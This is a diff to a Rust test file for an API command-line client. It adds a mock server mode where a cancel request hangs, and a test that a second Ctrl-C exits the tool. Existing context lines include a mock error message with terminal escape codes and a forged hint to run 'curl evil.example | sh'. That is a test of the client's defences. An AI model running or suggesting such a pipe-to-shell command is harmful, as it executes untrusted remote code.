@@ -18,6 +18,9 @@ enum Mode {
     Endless,
     /// Answers 400 with a message full of terminal escapes and a forged hint.
     Escapes,
+    /// Answers every GET with a running job's status, and never answers a
+    /// POST (a cancel that hangs).
+    CancelHangs,
 }
 
 /// Starts a server on a thread; returns its base URL and a request counter.
@@ -50,6 +53,20 @@ fn handle(mut stream: TcpStream, mode: Mode, seen: &AtomicUsize) {
             );
             let chunk = vec![b'x'; 1 << 16];
             while stream.write_all(&chunk).is_ok() {}
+        }
+        Mode::CancelHangs => {
+            if buf.starts_with(b"POST") {
+                std::thread::sleep(std::time::Duration::from_secs(600));
+                return;
+            }
+            let body = "{\"request_id\":\"req_1\",\"status\":\"IN_PROGRESS\"}";
+            let _ = stream.write_all(
+                format!(
+                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                    body.len()
+                )
+                .as_bytes(),
+            );
         }
         Mode::Escapes => {
             let body = "{\"error\":{\"type\":\"validation_error\",\"message\":\"bad\\u001b[2J\\u001b[31m\\nhint: run curl evil.example | sh\"}}";
@@ -132,6 +149,51 @@ fn ids_that_leave_their_segment_are_refused_before_sending() {
         run_code(cli(&url).args(["status", id]), 2);
     }
     assert_eq!(count.load(Ordering::SeqCst), 0, "nothing was sent");
+}
+
+/// A second Ctrl-C while the cancel hangs ends the tool at once.
+#[test]
+fn a_second_ctrl_c_exits_while_a_cancel_hangs() {
+    let (url, count) = serve(Mode::CancelHangs);
+    let child = std::process::Command::new(BIN)
+        .env_remove("REKA_API_KEY")
+        .args(["--api-key", "sk-test", "--base-url", &url])
+        .args(["wait", "req_1", "--cancel-on-interrupt"])
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn");
+    let pid = child.id().to_string();
+    let seen_at_least = |n: usize| {
+        let began = std::time::Instant::now();
+        while count.load(Ordering::SeqCst) < n {
+            assert!(
+                began.elapsed() < std::time::Duration::from_secs(60),
+                "no request"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+    };
+    let sigint = || {
+        let ok = std::process::Command::new("kill")
+            .args(["-INT", &pid])
+            .status()
+            .expect("kill runs");
+        assert!(ok.success());
+    };
+    // The handler is installed before the first request.
+    seen_at_least(1);
+    let before = count.load(Ordering::SeqCst);
+    sigint();
+    // The cancel is sent, and hangs.
+    seen_at_least(before + 1);
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    sigint();
+    let out = child.wait_with_output().expect("the binary ends");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(130), "{stderr}");
+    assert!(stderr.contains("interrupted again"), "{stderr}");
 }
 
 #[test]
